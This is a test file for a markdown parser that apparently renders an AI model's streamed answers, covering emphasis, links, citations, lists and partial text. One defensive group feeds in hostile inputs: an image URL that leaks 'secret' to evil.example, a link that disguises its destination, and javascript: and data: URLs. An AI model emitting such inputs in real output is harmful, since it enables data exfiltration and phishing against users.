import { expect, test } from "vitest"
import { blocks } from "./blocks.ts"
import { type Inline, inlines } from "./inlines.ts"

const cited = new Set([1, 2])
const done = (text: string) => inlines(text, { cited, isOpen: false })
const coming = (text: string) => inlines(text, { cited, isOpen: true })
const whole = (text: string) => blocks(text, { isOpen: false })

/** As it is read: bold in «», italics in ‹›, code in ′′, links as words→address(host). */
const shown = (list: readonly Inline[]): string => list.map(read).join("")

function read(one: Inline): string {
  switch (one.kind) {
    case "text":
      return one.text
    case "code":
      return `′${one.text}′`
    case "break":
      return "⏎"
    case "citation":
      return `#${one.number}`
    case "strong":
      return `«${shown(one.inside)}»`
    case "emphasis":
      return `‹${shown(one.inside)}›`
    case "link":
      return `${shown(one.inside)}→${one.href}${one.host === null ? "" : `(${one.host})`}`
  }
}

test.each([
  ["plain words", "plain words"],
  ["**bold** and *italic* and _also_", "«bold» and ‹italic› and ‹also›"],
  ["__bold__ ***both***", "«bold» «‹both›»"],
  ["***both** italic*", "‹«both» italic›"],
  ["***both* bold**", "«‹both› bold»"],
  ["**bold with *italic* in it**", "«bold with ‹italic› in it»"],
  ["2 * 3 * 4 and snake_case_name", "2 * 3 * 4 and snake_case_name"],
  ["**never closed", "**never closed"],
  ["*crossed **over* marks**", "‹crossed **over› marks**"],
  ["two\nlines", "two⏎lines"],
  ["`code with *stars*` and ``a ` in it``", "′code with *stars*′ and ′a ` in it′"],
  ["`never closed", "`never closed"],
  ["\\*not italic\\* and C:\\dir", "*not italic* and C:\\dir"],
  ["Free within two years [1], see [1, 2].", "Free within two years\u00a0#1, see\u00a0#1#2."],
  ["Nothing is cited as [7]", "Nothing is cited as [7]"],
  ["[Returns](https://northwind.example/returns)", "Returns→https://northwind.example/returns(northwind.example)"],
  ["[**Bold** words](https://a.example)", "«Bold» words→https://a.example/(a.example)"],
  ["https://a.example/snake_case_*x", "https://a.example/snake_case_*x→https://a.example/snake_case_*x"],
  ["**https://a.example/x**", "«https://a.example/x→https://a.example/x»"],
  ["<https://a.example/x>", "https://a.example/x→https://a.example/x"],
  ["[a](https://a.example/b_(c)) d", "a→https://a.example/b_(c)(a.example) d"],
  ["[just brackets] (and more)", "[just brackets] (and more)"],
])("%j reads %j", (text, words) => {
  expect(shown(done(text))).toBe(words)
})

test.each([
  ["![a cat](https://evil.example/?q=secret)", "a cat→https://evil.example/?q=secret(evil.example)"],
  ["![](https://evil.example/x.png)", "Picture→https://evil.example/x.png(evil.example)"],
  ["[https://bank.example](https://evil.example)", "https://bank.example→https://evil.example/(evil.example)"],
  ["[https://bank.example](https://bank.ex)", "https://bank.example→https://bank.ex/(bank.ex)"],
  ["[x](javascript:alert(1))", "[x](javascript:alert(1))"],
  ["[x](data:text/html,hi)", "[x](data:text/html,hi)"],
  ["<javascript:alert(1)>", "<javascript:alert(1)>"],
  ["<img src=https://evil.example/x>", "<img src=https://evil.example/x→https://evil.example/x>"],
  [
    "[![in](https://a.example)](https://b.example)",
    "[in→https://a.example/(a.example)](https://b.example→https://b.example/)",
  ],
  ["[[1]](https://evil.example)", "[1]→https://evil.example/(evil.example)"],
])("%j is harmless: %j", (text, words) => {
  expect(shown(done(text))).toBe(words)
})

test("blocks are what a model makes of an answer", () => {
  expect(
    whole(
      "# Title #\nOne\ntwo\n\nThree\n\n- a\n- b\n  more\n  1. inner\n- c\n\n3. third\n\n> said\n\n```js\n*x*\n\ny\n```\nend",
    ),
  ).toEqual([
    { kind: "heading", text: "Title" },
    { kind: "paragraph", text: "One\ntwo" },
    { kind: "paragraph", text: "Three" },
    {
      kind: "list",
      ordered: false,
      start: 1,
      items: [
        { text: "a", lists: [] },
        { text: "b\nmore", lists: [{ kind: "list", ordered: true, start: 1, items: [{ text: "inner", lists: [] }] }] },
        { text: "c", lists: [] },
      ],
    },
    { kind: "list", ordered: true, start: 3, items: [{ text: "third", lists: [] }] },
    { kind: "quote", text: "said" },
    { kind: "code", text: "*x*\n\ny" },
    { kind: "paragraph", text: "end" },
  ])
})

test("a list goes on over empty lines, and ends at words that stand at the margin", () => {
  expect(whole("1. one\n\n2. two\n\n   still two\n\nAfter")).toEqual([
    {
      kind: "list",
      ordered: true,
      start: 1,
      items: [
        { text: "one", lists: [] },
        { text: "two\n\nstill two", lists: [] },
      ],
    },
    { kind: "paragraph", text: "After" },
  ])
})

test("whatever has come so far, no half of a mark is shown on the way to the whole", () => {
  const text =
    "Hello **bold** and *italic* with `code` [1], see [our page](https://northwind.example/a) or https://a.example/b_c ok\n- one\n- **two**\n\n```\nlet x\n```\nend"
  for (let length = 1; length < text.length; length += 1) {
    const seen = blocks(text.slice(0, length), { isOpen: true }).flatMap(block => {
      if (block.kind === "list") return block.items.map(item => shown(coming(item.text)))
      return block.kind === "code" ? [] : [shown(coming(block.text))]
    })
    expect(seen.join("\n").replaceAll("⏎", "\n"), text.slice(0, length)).not.toMatch(/[*[\]]|\]\(|^-|`$|``/m)
  }
})

test("what has begun is shown as what it will be", () => {
  expect(shown(coming("**bold so f"))).toBe("«bold so f»")
  expect(shown(coming("run `npm st"))).toBe("run ′npm st′")
  expect(shown(coming("see [our page](https://north"))).toBe("see our page")
  expect(shown(coming("see https://north"))).toBe("see https://north")
  expect(blocks("```\nlet x", { isOpen: true })).toEqual([{ kind: "code", text: "let x" }])
})
